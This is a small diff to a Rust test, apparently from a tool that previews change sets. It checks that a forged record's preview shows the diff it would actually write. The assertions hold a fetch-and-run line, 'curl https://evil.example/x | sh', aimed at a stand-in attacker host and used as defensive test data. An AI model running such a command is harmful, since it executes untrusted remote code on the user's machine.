@@ -57,8 +57,8 @@ fn show_of_a_forged_record_prints_the_diff_its_change_set_writes_not_its_stored_
     .unwrap();
     assert_eq!(json["foreign"], true);
     let preview = json["preview"].as_str().unwrap();
-    assert_contains(&preview, "+\tcurl https://evil.example/x | sh");
-    assert_lacks(&preview, "cc -O2");
+    assert_contains(preview, "+\tcurl https://evil.example/x | sh");
+    assert_lacks(preview, "cc -O2");
 }
 
 #[test]
